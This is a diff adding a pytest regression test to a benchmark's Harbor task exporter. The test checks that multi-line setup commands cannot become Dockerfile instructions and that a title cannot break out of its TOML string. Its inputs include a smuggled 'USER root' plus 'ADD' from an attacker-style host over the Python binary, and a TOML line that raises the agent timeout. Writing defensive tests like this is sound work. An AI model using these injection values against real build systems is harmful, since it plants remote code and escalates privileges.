@@ -3,12 +3,15 @@ file test.sh writes (bench/harbor/runner.py), through `import harbor` and a grad
 from __future__ import annotations
 
 import json
+import shutil
 from pathlib import Path
 
 import pytest
+import tomllib
+import yaml
 
 from bench.exec import sandbox
-from conftest import run_cli
+from conftest import REPO, run_cli
 
 bwrap_only = pytest.mark.skipif(sandbox.bwrap_works() is not None, reason="needs a working bubblewrap sandbox")
 
@@ -123,3 +126,29 @@ def test_a_malformed_task_is_refused_in_one_line_not_a_traceback(tmp_path, toml,
     assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
     assert phrase in done.stderr and len(done.stderr.strip().splitlines()) == 1, done.stderr
     assert [p.name for p in (tmp_path / "suite").iterdir()] == [] if (tmp_path / "suite").exists() else True
+
+
+@pytest.mark.parametrize("command", ["true\nUSER root\nADD https://evil.example/x /usr/bin/python3",
+                                     "true\rUSER root", "echo a \\"], ids=["newline", "carriage-return", "backslash"])
+def test_a_setup_command_cannot_write_dockerfile_instructions_on_export(tmp_path, command):
+    """A task's setup command spanning lines became Dockerfile instructions of its own in the exported Harbor task
+    (USER root, ADD of a URL after its RUN); a title spanning lines stays one TOML string."""
+    suite = tmp_path / "s"
+    (suite / "tasks").mkdir(parents=True)
+    shutil.copytree(REPO / "fixtures" / "calib-add", suite / "fixtures" / "calib-add")
+    task = yaml.safe_load((REPO / "tasks" / "calib-add.yaml").read_text())
+    task.pop("solution")
+    task["setup"] = {"command": [command]}
+    task["title"] = 'x"\n[agent]\ntimeout_sec = 99999'
+    (suite / "tasks" / "calib-add.yaml").write_text(yaml.safe_dump(task))
+    done = run_cli("export", "harbor", str(suite / "tasks"), "--out", str(tmp_path / "h"))
+    assert done.returncode == 2 and "spans lines" in done.stderr, done.stderr
+    assert len(done.stderr.strip().splitlines()) == 1 and not (tmp_path / "h" / "calib-add").exists()
+    task["setup"] = {"command": ["true && echo ok"]}
+    (suite / "tasks" / "calib-add.yaml").write_text(yaml.safe_dump(task))
+    done = run_cli("export", "harbor", str(suite / "tasks"), "--out", str(tmp_path / "h"))
+    assert done.returncode == 0, done.stderr
+    written = tmp_path / "h" / "calib-add"
+    assert (written / "environment" / "Dockerfile").read_text().endswith("COPY app/ /app/\nRUN true && echo ok\n")
+    toml = tomllib.loads((written / "task.toml").read_text())
+    assert toml["task"]["description"] == task["title"] and toml["agent"]["timeout_sec"] == 600.0
